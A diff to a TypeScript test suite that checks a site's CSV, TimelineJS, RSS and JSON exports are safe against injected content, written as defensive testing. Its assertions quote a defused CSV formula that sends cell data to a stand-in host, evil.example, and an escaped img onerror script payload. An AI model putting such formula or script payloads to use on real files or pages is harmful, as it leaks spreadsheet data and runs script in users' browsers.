@@ -6,6 +6,9 @@
  * payloads, typed and in ?q=. Nothing may execute: any payload that runs
  * calls the trap or opens a dialog. The CSP is bypassed here on purpose, so
  * that escaping alone must hold (the CSP gate tests the policy itself).
+ * The exports must be safe for their consumers too: no formula in a CSV
+ * cell, no markup in what TimelineJS renders as HTML, and RSS and JSON that
+ * parse.
  */
 import { appendFileSync, cpSync, existsSync, readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -87,6 +90,25 @@ function injected(page: Page): Promise<string[]> {
   });
 }
 
+/** The cells of a CSV file, as a spreadsheet reads them (RFC 4180: a quoted cell may hold commas, line breaks and doubled quotes). */
+function csvCells(text: string): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = text.startsWith('\ufeff') ? 1 : 0; i < text.length; i++) {
+    const ch = text[i];
+    if (quoted && ch === '"' && text[i + 1] === '"') {
+      cell += '"';
+      i++;
+    } else if (ch === '"') quoted = !quoted;
+    else if (!quoted && (ch === ',' || ch === '\n')) {
+      cells.push(cell);
+      cell = '';
+    } else if (quoted || ch !== '\r') cell += ch;
+  }
+  return cells;
+}
+
 const htmlPages = () =>
   readdirSync(dist, { recursive: true, encoding: 'utf8' })
     .filter((f) => f.endsWith('index.html') || f === '404.html')
@@ -114,6 +136,32 @@ describe('hostile content', () => {
     }
     expect(problems).toEqual([]);
     expect(sprung).toEqual([]);
+  });
+
+  it('exports are safe: no formula opens a CSV cell, no markup in TimelineJS headlines, RSS and JSON parse', async () => {
+    const csv = csvCells(readFileSync(join(dist, 'timeline.csv'), 'utf8'));
+    // The payloads reached the file, defused with a leading apostrophe (OWASP's rule for CSV injection).
+    expect(csv).toContain('\'=HYPERLINK("https://evil.example/?"&A2,"انقر هنا")');
+    expect(csv).toContain("'@وكالة");
+    expect(csv.filter((cell) => /^[=+\-@\t\r]/u.test(cell))).toEqual([]);
+
+    const timelineJs = JSON.parse(readFileSync(join(dist, 'timelinejs.json'), 'utf8')) as {
+      events: { text: { headline: string; text: string }; start_date: { display_date: string }; group: string }[];
+    };
+    const rendered = timelineJs.events.flatMap((e) => [e.text.headline, e.text.text, e.start_date.display_date, e.group]);
+    expect(rendered.some((html) => html.includes('جون&#60;img src=x onerror=__bayanTrap'))).toBe(true);
+    // TimelineJS sets these with innerHTML: the only tags are the ones the export writes itself.
+    expect(rendered.flatMap((html) => html.match(/<(?!\/?p>|a href="https:\/\/[^"<>]+">|\/a>)[^>]*>/gu) ?? [])).toEqual([]);
+
+    expect(() => JSON.parse(readFileSync(join(dist, 'timeline.json'), 'utf8')) as unknown).not.toThrow();
+    const page = await context.newPage();
+    const rss = readFileSync(join(dist, 'rss.xml'), 'utf8');
+    const error = await page.evaluate(
+      (xml) => new DOMParser().parseFromString(xml, 'application/xml').querySelector('parsererror')?.textContent ?? '',
+      rss,
+    );
+    await page.close();
+    expect(error).toBe('');
   });
 
   it('search runs the payloads, typed and from ?q=, without running them', async () => {
